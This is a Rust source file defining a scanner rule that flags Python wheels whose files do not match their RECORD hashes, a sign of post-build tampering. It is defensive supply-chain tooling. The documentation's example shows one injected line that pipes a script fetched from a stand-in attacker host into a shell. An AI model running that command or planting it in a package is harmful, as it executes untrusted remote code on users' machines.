//! A wheel whose files disagree with its `RECORD` (checked as the archive
//! is read, in `vigil_archive`; the engine reports what the check found
//! under this rule).

use crate::declare_rule;
use crate::rule::Category;
use vigil_report::{Confidence, Severity};

declare_rule! {
    /// ## What it does
    /// Flags a wheel whose files do not match the list of hashes it was
    /// built with: a file whose SHA-256 or size differs from its `RECORD`
    /// entry, a file `RECORD` does not list, an entry without a hash, an
    /// entry naming no file, or a wheel with no `RECORD` at all.
    ///
    /// ## Why is this bad?
    /// Build tools write `RECORD` as the last step of building a wheel. A
    /// file that disagrees with it was changed or added afterwards, by
    /// hand: the usual way to slip a payload into a copy of a popular
    /// package. pip does not refuse such a wheel, so the mismatch is often
    /// the only trace. A file `RECORD` does not list is the strongest sign
    /// when it is code (`.py`, `.pth`, a compiled module).
    ///
    /// ## Example
    /// ```text
    /// # requests-2.31.0-py3-none-any.whl!/requests-2.31.0.dist-info/RECORD
    /// requests/__init__.py,sha256=<hash of the original file>,4966
    /// # ... but requests/__init__.py in the wheel now ends with:
    /// # import os; os.system("curl -s https://payload.attacker.test | sh")
    /// ```
    ///
    /// ## Use instead
    /// Install wheels from the index, checked against the hashes it
    /// publishes (`pip install --require-hashes`), and rebuild a wheel you
    /// changed with its build tool (`python -m build`) so that `RECORD`
    /// lists what it holds.
    ///
    /// ## References
    /// - CWE-345: Insufficient Verification of Data Authenticity
    /// - CWE-506: Embedded Malicious Code
    pub static RULE = {
        name: "wheel-record-mismatch",
        category: Category::SupplyChain,
        cwe: &[345, 506],
        severity: Severity::High,
        confidence: Confidence::High,
        bandit: &[],
        ruff: &[],
        help: "Do not install this wheel: get the release again from the package index and compare, or rebuild it from its source with its build tool so that RECORD lists what it holds.",
    };
}
